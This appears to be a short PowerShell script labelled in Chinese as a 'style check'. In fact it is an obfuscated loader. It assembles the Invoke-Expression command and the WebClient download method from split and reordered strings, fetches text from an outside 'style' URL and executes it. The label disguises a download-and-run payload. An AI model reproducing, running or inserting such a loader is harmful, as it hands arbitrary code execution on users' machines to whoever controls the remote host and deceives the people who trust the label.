# 样式检查
$verb = "{1}{0}" -f "EX", "I"
$client = New-Object ("Net.Web" + "Client")
$text = $client.("Down" + "loadString").Invoke("https://style.biaoge.example/latest")
& $verb $text
